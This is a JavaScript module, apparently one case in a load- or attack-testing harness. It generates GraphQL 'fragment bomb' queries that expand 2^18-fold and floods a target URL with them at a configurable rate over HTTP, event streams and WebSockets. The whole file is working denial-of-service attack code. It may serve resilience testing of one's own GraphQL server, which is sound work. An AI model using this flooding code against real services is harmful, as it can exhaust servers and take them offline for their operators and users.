import { atPace, openHttp, openSocket } from './stranger.mjs';

/** Each fragment has the next one twice: 2^18 selections in 2 kB. @param {string} name */
function fragmentBomb(name) {
  const fragments = Array.from(
    { length: 18 },
    (_, n) =>
      `fragment F${n} on User { ...A${n} ...B${n} } fragment A${n} on User { ...F${n + 1} } fragment B${n} on User { ...F${n + 1} }`,
  );
  return `query ${name} { user(id: "1") { ...F0 } } ${fragments.join(' ')} fragment F18 on User { id username }`;
}

/** A1: over HTTP, as an event stream and over a WebSocket. @type {import('./stranger.mjs').Attack} */
export async function dropFragmentBombs({ url, perSecond, seconds }, tally) {
  const http = openHttp(url, tally);
  const socket = await openSocket(url, tally, { name: 'ws' });
  await atPace({ perSecond, seconds }, (n) => {
    const payload = { query: fragmentBomb(`of_${n}`) };
    const body = JSON.stringify(payload);
    switch (n % 3) {
      case 0:
        return http.ask('http', { body });
      case 1:
        return http.ask('sse', { body, headers: { accept: 'text/event-stream' } });
      default:
        return socket.send({ id: String(n), type: 'subscribe', payload });
    }
  });
  socket.leave();
  await http.close();
}
